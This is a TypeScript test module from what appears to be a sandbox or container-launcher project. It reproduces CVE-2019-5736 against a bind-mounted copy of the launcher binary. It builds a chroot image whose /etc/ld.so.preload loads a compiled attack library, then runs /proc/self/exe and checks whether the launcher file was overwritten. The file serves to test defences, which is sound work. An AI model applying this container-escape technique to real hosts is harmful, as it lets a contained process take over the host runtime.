/** The box's command is the launcher's own file, and a library of the image is waiting for it. CVE-2019-5736, against a copy of that file. */
import { copyFileSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { MNT_DETACH, MS_BIND } from '../../kernel/constants.ts'
import { calls } from '../../kernel/libc.ts'
import { elfReader, householdOf } from '../../image/libraries.ts'
import { built } from '../../launch/addon.ts'
import type { Attack } from './attack.ts'
import { compiled } from './ground.ts'
import { Image } from './image.ts'
import { Token } from './token.ts'

// #region self
export const selfExe: Attack = {
  name: 'self-exe',
  story: 'write to the file of the launcher, from the process that it became',
  closedBy: 5,
  attempt: (ground) => {
    const { lesson } = ground.stage
    const isInline = lesson < 5
    const path = isInline ? process.execPath : built('launch')
    const launcher = ground.keep(new Copy(path))
    const image = ground.keep(new Image('dev', 'sys', 'tmp', 'proc'))
    if (isInline) bringLibrary(image)
    // A chroot has no /proc unless somebody mounts it from outside.
    if (lesson < 3) calls.mount('proc', join(image.path, 'proc'), 'proc', 0, '')
    return {
      onLauncher: true,
      ...(!isInline && { under: [] }), // it complains that it was given no plan
      rootfs: image.path,
      args: ['/proc/self/exe'],
      succeeded: () => launcher.isChanged(),
    }
  },
}
// #endregion self

/** Node wants its libraries, and its loader does what /etc/ld.so.preload says: ld.so(8). That file is the image's. */
function bringLibrary(image: Image): void {
  const { files, aliases } = householdOf([process.execPath], elfReader())
  for (const [place, file] of files) image.put(file, place)
  for (const [place, target] of aliases) image.link(target, place)
  image.put(compiled('attack.so'), '/attack.so')
  image.write('/attack.so\n', '/etc/ld.so.preload')
}

/** For this mount namespace a copy stands in the file's place: the real one is out of reach even where the attack succeeds. */
class Copy implements Disposable {
  readonly #token = new Token()
  readonly #path: string
  readonly #before: Buffer

  constructor(path: string) {
    this.#path = path
    copyFileSync(path, this.#token.path)
    this.#before = readFileSync(path)
    calls.mount(this.#token.path, path, '', MS_BIND, '')
  }

  isChanged(): boolean {
    return !readFileSync(this.#token.path).equals(this.#before)
  }

  [Symbol.dispose](): void {
    calls.umount2(this.#path, MNT_DETACH)
    this.#token[Symbol.dispose]()
  }
}
